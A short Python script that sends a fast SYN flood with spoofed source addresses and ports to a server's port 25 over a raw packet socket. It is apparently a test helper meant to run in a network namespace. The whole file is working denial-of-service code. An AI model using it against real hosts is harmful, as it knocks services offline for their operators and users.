#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""tcp_flood.py - a SYN flood from spoofed sources (run in the client netns).

usage: tcp_flood.py IFACE SERVER_IP SERVER_MAC COUNT [SECONDS]

Sends COUNT SYNs to SERVER_IP:25, each from a different random source
address in 172.16.0.0/12 and port, as fast as a raw packet socket allows;
with SECONDS, goes round the same sources again until that long has passed.
Frames are patched from one template (scapy would be far too slow).
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    s = (s & 0xffff) + (s >> 16)
    s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def main():
    iface, server, server_mac, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    until = time.monotonic() + (float(sys.argv[5]) if len(sys.argv) > 5 else 0)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    mac = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
    eth = bytes.fromhex(server_mac.replace(':', '')) + mac + b'\x08\x00'
    dst = socket.inet_aton(server)
    sent = 0
    while sent == 0 or time.monotonic() < until:
        sent += flood(s, eth, dst, count)
    print('tcp_flood: %d SYNs' % sent)
    return 0


def flood(s, eth, dst, count):
    rnd = random.Random(1)
    for _ in range(count):
        src = struct.pack('!I', (172 << 24 | 16 << 16) + rnd.randrange(1 << 20))
        sport = rnd.randrange(1024, 65535)
        seq = rnd.randrange(1 << 32)
        opt = b'\x02\x04\x05\xb4'
        tcp = struct.pack('!HHIIBBHHH', sport, 25, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + opt
        ph = src + dst + struct.pack('!BBH', 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack('!H', csum(ph + tcp)) + tcp[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
        s.send(eth + ip + tcp)
    return count


if __name__ == '__main__':
    sys.exit(main())
